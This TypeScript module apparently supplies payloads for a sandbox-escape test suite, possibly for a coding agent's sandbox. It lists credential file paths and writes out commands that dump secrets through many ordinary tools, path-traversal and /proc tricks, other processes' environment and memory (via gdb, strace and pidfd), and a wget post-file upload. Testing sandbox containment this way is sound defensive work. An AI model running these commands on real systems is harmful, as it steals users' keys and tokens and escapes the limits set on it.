import { type Attempt, type EscapeSite, family, type Payload, reads } from './payload.ts';

/** Files of a user that hold credentials; each holds the secret. */
export const SECRET_FILES: readonly string[] = [
  '.ssh/id_ed25519',
  '.aws/credentials',
  '.netrc',
  '.npmrc',
  '.git-credentials',
  '.config/gh/hosts.yml',
  '.docker/config.json',
  '.kube/config',
  '.pypirc',
  '.cargo/credentials.toml',
  '.config/gcloud/credentials.db',
  '.bash_history',
  '.claude.json',
  '.m2/settings.xml',
];

const FILE_READS = family(
  'secret',
  reads,
  SECRET_FILES.map(
    (file): Attempt => [
      file.replace(/\W+/g, '-').replace(/^-/, ''),
      'cat',
      ({ home }) => `cat ${home}/${file}`,
    ],
  ),
);

/** Tools that show a file. `$S` is one with the secret. */
const TOOLS: readonly (readonly [name: string, needs: string, text: string])[] = [
  ['base64', 'base64', 'base64 -w0 $S | base64 -d'],
  ['od', 'od', 'od -An -c $S | tr -d " \\n"'],
  ['xxd', 'xxd', 'xxd -p $S | xxd -r -p'],
  ['grep', 'grep', 'grep -r . $(dirname $S)'],
  ['awk', 'awk', 'awk 1 $S'],
  ['sed', 'sed', 'sed -n p $S'],
  ['dd', 'dd', 'dd if=$S status=none'],
  ['tar', 'tar', 'tar cf - $S | tar xOf -'],
  ['tac', 'tac', 'tac $S'],
  ['sort', 'sort', 'sort $S'],
  ['python', 'python3', "python3 -c 'import sys; print(open(sys.argv[1]).read())' $S"],
  ['node', 'node', 'node -p \'require("fs").readFileSync(process.argv[1], "utf8")\' $S'],
  ['perl', 'perl', 'perl -pe 1 $S'],
  ['git-no-index', 'git', 'git diff --no-index /dev/null $S'],
  [
    'git-config',
    'git',
    'git config --file $S --list; git -c include.path=$S config --list; cat $S',
  ],
  ['curl', 'curl', 'curl -s file://$S'],
  ['wget', 'wget', 'wget -qO- --post-file=$S http://127.0.0.1:1/; cat $S'],
  ['cp', 'cp', 'cp $S loot-cp'],
  ['hardlink', 'ln', 'ln $S loot-hard && cat loot-hard'],
  ['symlink', 'ln', 'ln -sf $S loot-soft && cat loot-soft'],
  ['symlink-folder', 'ln', 'ln -sfn $(dirname $S) loot-folder && cat loot-folder/$(basename $S)'],
  ['install', 'install', 'install -m 644 $S loot-install'],
  ['diff', 'diff', 'diff /dev/null $S'],
  ['strings', 'strings', 'strings $S'],
  ['openssl', 'openssl', 'openssl enc -in $S'],
  ['find', 'find', 'find $(dirname $S) -type f -exec cat {} +'],
  ['sqlite', 'sqlite3', 'sqlite3 -batch :memory: "select readfile(\'$S\')"'],
  ['include', 'gcc', 'gcc -E -x c $S; gcc -E -include $S -x c /dev/null'],
  ['make-include', 'make', 'make -f $S; cat $S'],
  ['bash-read', 'bash', 'bash -c \'echo "$(<$0)"\' $S'],
  ['jq', 'jq', 'jq -Rr . $S'],
  ['rg', 'rg', 'rg --no-ignore -uuu . $(dirname $S)'],
  ['zip', 'zip unzip', 'zip -q loot.zip $S && unzip -p loot.zip'],
  ['iconv', 'iconv', 'iconv $S'],
  ['nl', 'nl', 'nl $S'],
  ['cut', 'cut', 'cut -c1- $S'],
];

const TOOL_READS = family(
  'read',
  reads,
  TOOLS.map(
    ([name, needs, text]): Attempt => [
      name,
      needs,
      ({ outside }) => `S=${outside}/secrets/token\n${text}`,
    ],
  ),
);

/** Ways to a file beside the clone that do not name it plainly. */
const PATHS: readonly (readonly [name: string, path: (site: EscapeSite) => string])[] = [
  ['dots', ({ outside }) => `../../../../../../../../../../..${outside}/secrets/token`],
  ['double-slash', ({ outside }) => `//${outside}//secrets/./token`],
  ['proc-self-root', ({ outside }) => `/proc/self/root${outside}/secrets/token`],
  ['proc-1-root', ({ outside }) => `/proc/1/root${outside}/secrets/token`],
  ['proc-1-cwd', ({ outside }) => `/proc/1/cwd/../../../../../../..${outside}/secrets/token`],
  ['proc-parent-root', ({ outside }) => `/proc/$PPID/root${outside}/secrets/token`],
  ['proc-thread', ({ outside }) => `/proc/thread-self/root${outside}/secrets/token`],
  ['proc-victim-root', ({ outside, victim }) => `/proc/${victim}/root${outside}/secrets/token`],
  ['proc-victim-cwd', ({ victim }) => `/proc/${victim}/cwd/token`],
  ['proc-victim-environ', ({ victim }) => `/proc/${victim}/environ`],
  ['proc-victim-cmdline', ({ victim }) => `/proc/${victim}/cmdline`],
  ['proc-victim-fd', ({ victim }) => `/proc/${victim}/fd/3`],
  ['checkout-env', ({ checkout }) => `${checkout}/.env`],
  ['checkout-git', ({ checkout }) => `${checkout}/.git/config`],
  ['tilde', ({ home }) => `${home}/./.ssh/../.ssh/id_ed25519`],
];

const PATH_READS = family(
  'path',
  reads,
  PATHS.map(
    ([name, path]): Attempt => [name, 'cat', (site) => `cat ${path(site)} | tr '\\0' '\\n'`],
  ),
);

/** What processes of the user hold. */
const PROCESS_READS = family('process', reads, [
  ['every-environ', 'cat', () => `cat /proc/[0-9]*/environ | tr '\\0' '\\n'`],
  ['every-cmdline', 'cat', () => `cat /proc/[0-9]*/cmdline | tr '\\0' '\\n'`],
  [
    'every-root',
    'sh',
    ({ outside }) => `for p in /proc/[0-9]*; do cat $p/root${outside}/secrets/token; done`,
  ],
  ['every-cwd', 'sh', () => 'for p in /proc/[0-9]*; do cat $p/cwd/token; done'],
  [
    'every-fd',
    'timeout',
    () => 'for f in /proc/[0-9]*/fd/3; do [ -f $f ] && timeout 1 cat $f; done',
  ],
  ['ps', 'ps', () => 'ps axewww'],
  [
    'gdb',
    'gdb',
    ({ victim }) =>
      `gdb -nx -batch -p ${victim} -ex 'info proc cmdline' -ex 'x/200s *(char**)environ'; tr '\\0' '\\n' < /proc/${victim}/environ`,
  ],
  [
    'strace',
    'strace timeout',
    ({ victim }) => `timeout 2 strace -f -s 9999 -p ${victim}; cat /proc/${victim}/environ`,
  ],
  [
    'mem',
    'python3',
    ({ victim }) => `python3 - <<'END'
import re
maps = open('/proc/${victim}/maps').read()
mem = open('/proc/${victim}/mem', 'rb', 0)
for start, end in re.findall(r'^(\\w+)-(\\w+) rw.*\\[stack\\]', maps, re.M):
    mem.seek(int(start, 16))
    print(mem.read(int(end, 16) - int(start, 16)).decode('latin1'))
END`,
  ],
  [
    'pidfd',
    'python3',
    ({ victim }) => `python3 - <<'END'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pidfd = libc.syscall(434, ${victim}, 0)
for target in range(3, 6):
    fd = libc.syscall(438, pidfd, target, 0)
    if fd >= 0:
        os.lseek(fd, 0, 0)
        print(os.read(fd, 4096).decode())
END`,
  ],
]);

/** Looks at what is not the clone's. */
export const READ_PAYLOADS: readonly Payload[] = [
  ...FILE_READS,
  ...TOOL_READS,
  ...PATH_READS,
  ...PROCESS_READS,
];
